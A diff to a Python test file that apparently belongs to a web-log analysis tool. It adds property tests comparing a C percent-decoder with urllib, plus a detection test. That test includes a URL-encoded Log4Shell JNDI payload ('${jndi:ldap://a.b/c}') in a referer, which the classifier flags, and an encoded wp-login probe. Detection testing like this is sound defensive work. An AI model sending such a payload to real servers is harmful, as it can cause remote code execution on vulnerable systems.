@@ -211,3 +211,33 @@ def test_adding_counts_in_c_equals_counter_update(into: dict[Any, int], other: d
     twice = Counter(into)
     _cut.add_counts(twice, twice)  # (itself: every count doubled, as Counter.update does)
     assert twice == Counter({k: 2 * v for k, v in into.items()})
+
+
+_pct_piece = st.sampled_from([b"%", b"%4", b"%41", b"%e4", b"%BD", b"%zz", b"%4g", b"%%", b"%0", b"a", b"+", b"\xff",
+                              b"%25", b"%2541", b"%u0041", b"/", b""])
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.one_of(st.lists(_pct_piece, max_size=12).map(b"".join), st.binary(max_size=40)))
+@example(b"%")
+@example(b"ab%4")
+@example(b"%41%42")
+def test_unquote_in_c_equals_urllib(raw: bytes) -> None:
+    from urllib.parse import unquote_to_bytes
+
+    got = _cut.unquote(raw)
+    assert got == unquote_to_bytes(raw) and type(got) is bytes
+    assert _cut.unquote(bytearray(raw)) == got == _cut.unquote(memoryview(raw))
+
+
+def test_unquote_refuses_text() -> None:
+    with pytest.raises(TypeError):
+        _cut.unquote("%41")  # type: ignore[arg-type]
+
+
+def test_decode_request_uses_the_c_unquote() -> None:
+    from upkeeper.logs import classify
+
+    assert classify._unquote is _cut.unquote
+    assert classify.referer_exploit(b"https://x.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fa.b%2Fc%7D") == "log4shell_in_referer"
+    assert classify.nginx_uri(b"/wp-login%2ephp") == b"/wp-login.php"
